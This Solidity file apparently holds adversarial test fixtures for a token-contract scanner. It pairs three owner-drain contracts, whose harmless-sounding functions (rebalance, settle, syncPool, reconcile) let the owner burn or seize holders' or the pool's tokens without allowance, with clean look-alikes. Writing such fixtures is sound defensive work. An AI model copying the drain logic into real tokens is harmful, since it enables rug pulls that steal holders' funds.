// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {AdvBase} from "./AdvBase.sol";

interface IAdvPair {
    function sync() external;
}

/// @notice Owner-drain under odd names (issue 40 item 4): `rebalance(address,uint256)` burns any
/// holder's tokens (burnFrom without an allowance) and `settle(address,uint256)` takes them to the
/// owner (transferFrom without an allowance).
contract RebalanceDrain is AdvBase {
    constructor(string memory n, string memory s) AdvBase(n, s) {}

    function rebalance(address account, uint256 amount) external onlyOwner {
        _bal[account] -= amount;
        totalSupply -= amount;
        emit Transfer(account, address(0), amount);
    }

    function settle(address account, uint256 amount) external onlyOwner {
        _bal[account] -= amount;
        _bal[msg.sender] += amount;
        emit Transfer(account, msg.sender, amount);
    }
}

/// @notice CLEAN look-alike: the same two functions with the standard semantics — burnFrom and
/// transferFrom spend the holder's allowance to the caller, which no holder gave.
contract CleanRebalance is AdvBase {
    constructor(string memory n, string memory s) AdvBase(n, s) {}

    function rebalance(address account, uint256 amount) external onlyOwner {
        _spend(account, amount);
        _bal[account] -= amount;
        totalSupply -= amount;
        emit Transfer(account, address(0), amount);
    }

    function settle(address account, uint256 amount) external onlyOwner {
        _spend(account, amount);
        _transfer(account, msg.sender, amount);
    }
}

/// @notice Owner-drain of the pool only: `syncPool(address,uint256)` burns the pool's tokens and
/// syncs its reserves (the price jumps; the owner then sells into it). No holder is touched.
contract PoolSyncDrain is AdvBase {
    constructor(string memory n, string memory s) AdvBase(n, s) {}

    function syncPool(address pool, uint256 amount) external onlyOwner {
        require(pool == pair, "not the pool");
        _bal[pool] -= amount;
        totalSupply -= amount;
        emit Transfer(pool, address(0), amount);
        IAdvPair(pool).sync();
    }
}

/// @notice CLEAN look-alike: `syncPool(address,uint256)` adds the owner's own tokens to the pool and
/// syncs (a donation to liquidity): the pool's balance rises, nobody's falls without consent.
contract CleanPoolSync is AdvBase {
    constructor(string memory n, string memory s) AdvBase(n, s) {}

    function syncPool(address pool, uint256 amount) external onlyOwner {
        require(pool == pair, "not the pool");
        _transfer(msg.sender, pool, amount);
        IAdvPair(pool).sync();
    }
}

/// @notice Owner-drain with the amount first: `reconcile(uint256,address)` burns any holder's tokens.
/// Probes that name the holder first pass it as the amount (and revert): only the amount-first shape
/// reaches it.
contract AmountFirstDrain is AdvBase {
    constructor(string memory n, string memory s) AdvBase(n, s) {}

    function reconcile(uint256 amount, address account) external onlyOwner {
        _bal[account] -= amount;
        totalSupply -= amount;
        emit Transfer(account, address(0), amount);
    }
}

/// @notice CLEAN look-alike: the same `reconcile(uint256,address)`, spending the holder's allowance.
contract CleanAmountFirst is AdvBase {
    constructor(string memory n, string memory s) AdvBase(n, s) {}

    function reconcile(uint256 amount, address account) external onlyOwner {
        _spend(account, amount);
        _bal[account] -= amount;
        totalSupply -= amount;
        emit Transfer(account, address(0), amount);
    }
}
